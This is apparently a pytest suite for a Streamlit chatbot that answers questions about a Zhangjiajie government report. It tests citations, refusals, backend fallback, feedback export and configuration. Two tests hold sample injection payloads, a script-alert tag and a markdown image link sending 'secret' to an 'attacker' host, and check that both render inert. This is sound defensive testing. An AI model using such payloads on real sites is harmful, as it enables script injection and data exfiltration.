"""The Streamlit chat UI, driven in-process with streamlit.testing.v1.AppTest.

The store is built once per test session from seeds/ into a temporary data
dir (CHATBOT_DATA_DIR) and shared read-only; feedback rows are told apart by
their question.
"""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

pytest.importorskip("streamlit")
from streamlit.testing.v1 import AppTest  # noqa: E402

from chatbot import settings as settings_module  # noqa: E402
from chatbot.core import Chatbot, Event  # noqa: E402
from chatbot.export import conversation_markdown, escape_markdown  # noqa: E402
from chatbot.feedback import FeedbackStore  # noqa: E402
from chatbot.types import Answer, AnswerSentence, Citation, Passage  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "chatbot" / "app.py")
TIMEOUT = 120
QA_FIELDS = {"id", "question", "answer", "evidence", "keywords", "answerable", "history", "tags"}


@pytest.fixture
def app(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> AppTest:
    monkeypatch.setenv("CHATBOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("CHATBOT_BACKEND", "extractive")
    settings_module.get_settings.cache_clear()
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.run()
    assert not at.exception, at.exception
    yield at
    settings_module.get_settings.cache_clear()


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="w_chat").set_value(question).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def texts(at: AppTest) -> list[str]:
    return [m.value for m in at.markdown] + [h.value for h in at.get("html")]


# --- flows --------------------------------------------------------------------
def test_ask_shows_answer_with_citation_cards(app: AppTest) -> None:
    ask(app, "今年GDP增长目标是多少？")
    assert not app.error
    assistant = [m for m in app.get("chat_message") if m.name == "assistant"]
    assert assistant, "no assistant message"
    answer_md = [m.value for m in app.markdown if "7\\.5%" in m.value and "\\[1\\]" in m.value]
    assert answer_md, "the answer with its [1] marker is not shown"
    cards = [h.value for h in app.get("html") if "<mark" in h.value]
    assert cards and "7.5%" in cards[0], "no source card with a highlighted quote"
    headers = [m.value for m in app.markdown if m.value.startswith("**\\[1\\]**")]
    assert headers and "第2版" in headers[0] and "2023年工作安排" in headers[0]
    # the feedback widget and the full-text button are there
    assert app.feedback
    opener = [b for b in app.button if b.key and b.key.startswith("open-")]
    assert opener
    opener[0].click().run()
    assert not app.exception
    full = [h.value for h in app.get("html") if 'id="zjj-cited"' in h.value]
    assert full, "the full-text view did not open on the cited passage"
    assert "<mark" in full[0] and "scrollIntoView" in full[0]
    assert len(full[0]) > 10000, "the full text should hold the whole document"


def test_followup_shows_standalone_question(app: AppTest) -> None:
    ask(app, "今年GDP增长目标是多少？")
    ask(app, "那固定资产投资呢？")
    captions = [c.value for c in app.caption]
    understood = [c for c in captions if c.startswith("理解为：")]
    assert understood and "固定资产投资" in understood[-1]
    assert len([m for m in app.get("chat_message") if m.name == "user"]) == 2


def _refusal_stream(self, question, history=None, **kwargs):  # noqa: ANN001, ANN202
    text = "报告中没有找到与这个问题相关的内容。"
    yield Event("standalone", question)
    yield Event("passages", [])
    yield Event("token", text)
    yield Event("answer", Answer(question=question, standalone_question=question, answer=text, refused=True, backend="extractive"))


def test_refusal_shows_refusal_box(app: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Chatbot, "stream", _refusal_stream)
    ask(app, "张家界市长叫什么名字？")
    assert [i.value for i in app.info if "报告中没有相关内容" in i.value]
    assert not app.error and not app.warning
    assert not [h for h in app.get("html") if "<mark" in h.value], "a refusal has no source cards"


def test_real_core_refusal_shows_the_refusal_box(app: AppTest) -> None:
    """With the real core: the report names this railway but gives no investment figure."""
    ask(app, "张石铁路总投资多少？")
    turn = app.session_state["_zjj_session"].turns[-1]
    assert turn.answer is not None and turn.answer.refused
    assert [i.value for i in app.info if "报告中没有相关内容" in i.value]
    assert not app.error


def test_backend_down_warns_and_falls_back(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The operator's model server is down: the visitor is told so plainly (no address) and gets the offline answer."""
    monkeypatch.setenv("CHATBOT_DATA_DIR", str(data_dir))
    monkeypatch.setenv("CHATBOT_PUBLIC_BACKENDS", "extractive,openai:down-model")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    settings_module.get_settings.cache_clear()
    app = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    app.selectbox(key="w_choice").set_value("openai:down-model").run()
    assert not app.exception
    status = [c.value for c in app.sidebar.caption if "不可用" in c.value]
    assert status, "the sidebar should show the backend as unavailable"
    ask(app, "今年GDP增长目标是多少？")
    assert app.warning, "a backend failure must show a warning"
    assert not app.error
    assert [m.value for m in app.markdown if "7\\.5%" in m.value], "the fallback answer is missing"
    assert [c.value for c in app.caption if "extractive" in c.value or "离线" in c.value]
    shown = [w.value for w in app.warning] + [c.value for c in app.caption] + [c.value for c in app.sidebar.caption]
    assert not [x for x in shown if "127.0.0.1" in x or ":9" in x or "/v1" in x], shown


def test_feedback_is_saved_and_exported(app: AppTest, data_dir: Path) -> None:
    question = "今年GDP增长目标是多少？"
    ask(app, question)
    app.feedback[0].set_value(0).run()  # 👎
    assert not app.exception
    assert [c.value for c in app.caption if "反馈" in c.value]
    comment_box = [w for w in app.text_input if w.key and w.key.startswith("fbc-")]
    assert comment_box
    comment_box[0].set_value("应该只回答GDP")
    submit = [b for b in app.get("form_submit_button")] or [b for b in app.button if "提交" in b.label]
    submit[0].click().run()
    assert not app.exception

    db = data_dir / "feedback.sqlite3"
    assert db.exists()
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT rating, comment, answer FROM feedback WHERE question = ?", (question,)).fetchall()
    conn.close()
    assert (0, "应该只回答GDP") in [(r[0], r[1]) for r in rows]

    lines = FeedbackStore(data_dir).export_jsonl()
    items = [json.loads(line) for line in lines]
    assert all(QA_FIELDS <= set(item) for item in items)
    mine = [i for i in items if i["question"] == question and i["feedback"]["comment"] == "应该只回答GDP"]
    assert mine
    item = mine[-1]
    assert item["answer"] is None and item["answerable"] is True
    assert "thumbs_down" in item["tags"] and "feedback" in item["tags"]
    assert item["feedback"]["bot_answer"] and "7.5%" in item["feedback"]["bot_answer"]
    assert isinstance(item["evidence"], list) and isinstance(item["history"], list)
    downloads = [d for d in app.get("download_button")]
    assert [d.label for d in downloads] == ["导出对话（Markdown）"], "visitors may export their own conversation only"


def test_thumbs_up_export_has_evidence(data_dir: Path, tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path)
    answer = Answer(
        question="q", standalone_question="q", answer="增长7.5%左右[1]。", refused=False, backend="extractive",
        citations=[Citation(n=1, chunk_id="c", source="s", section="二", page=2, quote="地区生产总值增长7.5%左右")],
    )
    store.add(rating=1, question="今年GDP增长目标是多少？", answer=answer, turn_id="t1")
    store.add(rating=1, question="今年GDP增长目标是多少？", answer=answer, turn_id="t1", comment="好")  # same turn: update
    refusal = Answer(question="r", standalone_question="r", answer="报告中没有找到。", refused=True, backend="extractive")
    store.add(rating=1, question="张家界市长叫什么名字？", answer=refusal, history=[{"role": "user", "content": "x"}])
    out = tmp_path / "fb.jsonl"
    lines = store.export_jsonl(out)
    assert out.read_text(encoding="utf-8").splitlines() == lines
    items = [json.loads(line) for line in lines]
    assert len(items) == 2
    up, refused = items
    assert up["answer"] == "增长7.5%左右。" and up["evidence"] == ["地区生产总值增长7.5%左右"]
    assert up["keywords"] == ["7.5%"] and up["answerable"] is True and up["feedback"]["comment"] == "好"
    assert refused["answerable"] is False and refused["answer"] is None and "followup" in refused["tags"]


def test_untrusted_text_stays_inert(app: AppTest, monkeypatch: pytest.MonkeyPatch) -> None:
    evil = "<script>alert(1)</script> ![x](http://attacker/?q=secret)"
    passage = Passage(chunk_id="c-evil", text=f"前文。{evil}。后文。", score=1.0, source="evil.txt", section=evil, page=2)

    def fake_stream(self, question, history=None, **kwargs):  # noqa: ANN001, ANN202
        yield Event("standalone", question)
        yield Event("passages", [passage])
        yield Event("token", evil)
        yield Event(
            "answer",
            Answer(
                question=question, standalone_question=evil, answer=evil + "[1]", refused=False, backend="extractive",
                citations=[Citation(n=1, chunk_id="c-evil", source="evil.txt", section=evil, page=2, quote=evil)],
                sentences=[AnswerSentence(text=evil, citations=[1], verified=False, unverified_figures=["1"])],
                contexts=[passage], warnings=[evil],
            ),
        )

    monkeypatch.setattr(Chatbot, "stream", fake_stream)
    monkeypatch.setattr("chatbot.retrieve.retriever.Retriever.document_chunks", lambda self, source: [passage])
    ask(app, "注入测试")
    opener = [b for b in app.button if b.key and b.key.startswith("open-")]
    assert opener
    opener[0].click().run()
    assert not app.exception

    assert not app.get("imgs"), "an image element was rendered"
    shown = [m.value for m in app.markdown] + [a.value for a in app.warning] + [a.value for a in app.error] + [a.value for a in app.info]
    assert any("attacker" in value for value in shown), "the text should still be visible, escaped"
    for value in shown:
        assert "![x](" not in value and "](http" not in value, value
        assert "<script" not in value, value
    for md in app.markdown:
        assert not md.allow_html or "attacker" not in md.value
    htmls = [h.value for h in app.get("html")]
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in h for h in htmls)
    for body in htmls:
        assert "<script>alert" not in body
        assert "<img" not in body
    # the badge for unverified figures is shown
    assert any("未核实" in value for value in shown)


def test_question_over_the_cap_shows_message(app: AppTest) -> None:
    ask(app, "张" * 600)
    errors = [e.value for e in app.error]
    assert errors and "问题太长" in errors[0]
    assert not [h for h in app.get("html") if "<mark" in h.value]


def test_language_examples_and_new_conversation(app: AppTest) -> None:
    app.radio(key="w_lang").set_value("en").run()
    assert not app.exception
    assert app.title[0].value.startswith("Zhangjiajie")
    assert app.chat_input(key="w_chat").placeholder.startswith("Ask")
    example = [b for b in app.button if b.label == "What is this year's GDP growth target?"]
    example[0].click().run()
    assert not app.exception
    assert [m.value for m in app.markdown if "7\\.5%" in m.value]
    assert [b for b in app.button if b.label == "Show in full text"]
    app.button(key="w_new").click().run()
    assert not app.get("chat_message")


def test_conversation_markdown_keeps_citations_and_escapes() -> None:
    answer = Answer(
        question="今年GDP增长目标是多少？", standalone_question="今年GDP增长目标是多少？", answer="增长7.5%左右[1]。",
        refused=False, backend="extractive",
        citations=[Citation(n=1, chunk_id="c", source="s", section="二、2023年工作安排", page=2, quote="地区生产总值增长7.5%左右")],
        sentences=[AnswerSentence(text="增长7.5%左右。", citations=[1])],
    )
    evil = Answer(question="x", standalone_question="x", answer="![x](http://attacker/?q=secret)", refused=False, backend="extractive")
    text = conversation_markdown([("今年GDP增长目标是多少？", answer), ("x", evil), ("y", None)])
    assert "\\[1\\]" in text and "第2版" in text and "地区生产总值增长7\\.5%左右" in text
    assert "![x](" not in text
    assert escape_markdown("<b>") == "&lt;b&gt;"
    # GFM autolinks bare URLs even when escaped: an invisible word joiner keeps them plain text
    assert "http\u2060\\:" in escape_markdown("see http://attacker/x")
    assert "www\u2060\\." in escape_markdown("www.attacker.com")
    assert "@\u2060" in escape_markdown("a@b.com")


def test_streamlit_is_only_in_the_app_layer() -> None:
    for path in (ROOT / "chatbot").rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel == "chatbot/app.py" or rel.startswith("chatbot/ui/"):
            continue
        assert "import streamlit" not in path.read_text(encoding="utf-8"), rel


def test_config_keeps_xsrf_protection() -> None:
    config = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert "enableXsrfProtection" not in config and "enableCORS" not in config
    assert 'toolbarMode = "viewer"' in config and "gatherUsageStats = false" in config
    import tomllib

    parsed = tomllib.loads(config)
    assert parsed["server"]["address"] == "127.0.0.1", "a reverse proxy publishes the app"
    assert parsed["client"]["showErrorDetails"] == "none", "visitors never see tracebacks"

